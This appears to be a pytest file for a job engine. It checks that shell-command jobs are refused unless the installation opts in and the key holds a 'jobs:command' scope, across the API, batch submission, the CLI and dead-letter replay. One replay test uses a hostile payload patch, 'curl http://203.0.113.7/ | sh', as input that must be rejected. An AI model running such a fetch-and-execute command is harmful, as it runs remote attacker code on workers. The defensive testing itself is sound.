"""Job types that run commands on the workers (``shell``): opt-in per installation, then per key.

A ``jobs:write`` key needs ``jobs:command`` too (admin keys have every scope); an installation
without ``JOBENGINE_COMMAND_TYPES_ENABLED`` refuses such types whatever the key, through the API
and through every other way in. Every refusal leaves nothing written.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import httpx
import pytest
from sqlalchemy import Engine, text

from jobengine.api.app import create_app
from jobengine.domain.job import NewJob
from jobengine.errors import CommandTypesDisabled
from jobengine.store.database import transaction
from jobengine.submission import submit
from tests.api.conftest import LiveServer, RecordingPublisher, api_settings, bearer, make_key
from tests.integration.cli_support import invoke

SHELL = {"type": "shell", "projectId": "ops", "payload": {"command": ["true"]}}
NOOP = {"type": "noop", "projectId": "ops"}
ENVELOPE = {"code", "message", "hint", "retryable"}


def jobs_stored(engine: Engine) -> int:
    with engine.connect() as conn:
        return int(conn.execute(text("SELECT count(*) FROM jobs")).scalar_one())


def as_key(live: LiveServer, key: str) -> httpx.Client:
    return httpx.Client(
        base_url=live.url, headers={**bearer(key), "X-Tenant-Id": "acme"}, timeout=30
    )


@pytest.fixture
def disabled(db_url: str, engine: Engine) -> Iterator[LiveServer]:
    """An API whose installation has not opted in to command-running types."""
    app = create_app(
        api_settings(db_url, command_types_enabled=False),
        engine=engine,
        publisher=RecordingPublisher(),
        revoker=None,
        broker_check=lambda: None,
    )
    with LiveServer(app) as server:
        yield server


def test_a_write_key_without_jobs_command_is_refused_shell_alone_and_in_a_batch(
    live: LiveServer, engine: Engine, client: httpx.Client
) -> None:
    single = client.post("/api/v1/jobs", json=SHELL)
    batch = client.post("/api/v1/jobs/batch", json={"jobs": [NOOP, SHELL]})

    for refused in (single, batch):
        assert refused.status_code == 403, refused.text
        body = refused.json()
        assert set(body) == ENVELOPE
        assert body["code"] == "FORBIDDEN"
        assert "jobs:command" in body["message"] and "'shell'" in body["message"]
        assert "--scope jobs:command" in body["hint"]
    assert jobs_stored(engine) == 0  # the batch's noop was not written either
    assert client.post("/api/v1/jobs", json=NOOP).status_code == 201


def test_a_key_with_jobs_command_and_an_admin_key_may_submit_shell(
    live: LiveServer, engine: Engine
) -> None:
    commander = make_key(engine, "acme", "jobs:write", "jobs:command")
    admin = make_key(engine, "ops", "admin")
    for key in (commander, admin):
        with as_key(live, key) as c:
            one = c.post("/api/v1/jobs", json=SHELL)
            many = c.post("/api/v1/jobs/batch", json={"jobs": [NOOP, SHELL]})
        assert one.status_code == 201, one.text
        assert many.status_code == 201, many.text
    assert jobs_stored(engine) == 6


def test_an_installation_without_command_types_refuses_shell_whatever_the_key(
    disabled: LiveServer, engine: Engine
) -> None:
    keys = (
        make_key(engine, "acme", "jobs:write"),
        make_key(engine, "acme", "jobs:write", "jobs:command"),
        make_key(engine, "ops", "admin"),
    )
    for key in keys:
        with as_key(disabled, key) as c:
            for refused in (
                c.post("/api/v1/jobs", json=SHELL),
                c.post("/api/v1/jobs/batch", json={"jobs": [NOOP, SHELL]}),
            ):
                assert refused.status_code == 422, refused.text
                body = refused.json()
                assert set(body) == ENVELOPE
                assert body["code"] == "COMMAND_TYPES_DISABLED"
                assert "JOBENGINE_COMMAND_TYPES_ENABLED" in body["message"] + body["hint"]
            assert c.post("/api/v1/jobs", json=NOOP).status_code == 201
    assert jobs_stored(engine) == 3  # only the three noops


def test_producers_outside_the_api_are_refused_command_types_when_the_installation_is_off(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from config.settings import Settings

    with pytest.raises(CommandTypesDisabled) as refused, transaction(engine) as conn:
        submit(conn, NewJob(type="shell", payload={"command": "id"}), commands_enabled=False)
    assert "JOBENGINE_COMMAND_TYPES_ENABLED" in refused.value.message + refused.value.hint
    monkeypatch.setattr(
        "jobengine.submission.get_settings", lambda: Settings(command_types_enabled=False)
    )
    with pytest.raises(CommandTypesDisabled), transaction(engine) as conn:
        submit(conn, NewJob(type="shell", payload={"command": "id"}))
    assert jobs_stored(engine) == 0


def test_keys_create_issues_a_key_with_the_jobs_command_scope(
    live: LiveServer, engine: Engine, db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("jobengine.cli.configure_logging", lambda *_args, **_kw: None)
    code, out, err = invoke(
        db_url,
        "redis://127.0.0.1:9/0",
        "keys",
        "create",
        "--tenant",
        "acme",
        "--name",
        "ci-runner",
        "--scope",
        "jobs:write",
        "--scope",
        "jobs:command",
        "--json",
    )
    assert code == 0, err
    issued = json.loads(out)
    assert issued["scopes"] == ["jobs:write", "jobs:command"]
    with as_key(live, issued["key"]) as c:
        assert c.post("/api/v1/jobs", json=SHELL).status_code == 201


def test_a_replay_that_patches_a_commands_payload_needs_jobs_command(
    live: LiveServer, engine: Engine
) -> None:
    from tests.api.test_dlq import failed_job

    job_id = failed_job(engine, job_type="shell")
    replayer = make_key(engine, "acme", "jobs:read", "jobs:write", "dlq:replay")
    patch = {"payloadPatch": {"command": "curl http://203.0.113.7/ | sh"}}
    with as_key(live, replayer) as c:
        [entry] = c.get("/api/v1/dlq").json()["items"]
        for refused in (
            c.post(f"/api/v1/dlq/{entry['id']}/replay", json=patch),
            c.post(f"/api/v1/jobs/{job_id}/retry", json=patch),
            c.post("/api/v1/dlq/replay", json={"type": ["shell"], **patch}),
        ):
            assert refused.status_code == 403, refused.text
            assert refused.json()["code"] == "FORBIDDEN"
            assert "jobs:command" in refused.json()["message"]
        assert c.get(f"/api/v1/dlq/{entry['id']}").json()["status"] == "open"
        unpatched = c.post(f"/api/v1/dlq/{entry['id']}/replay")
    assert unpatched.status_code == 200 and unpatched.json()["outcome"] == "replayed"

    job_id = failed_job(engine, job_type="shell")
    commander = make_key(engine, "acme", "jobs:read", "jobs:write", "jobs:command")
    with as_key(live, commander) as c:
        patched = c.post(f"/api/v1/jobs/{job_id}/retry", json={"payloadPatch": {"command": "id"}})
    assert patched.status_code == 200, patched.text
    assert patched.json()["payload"]["command"] == "id"
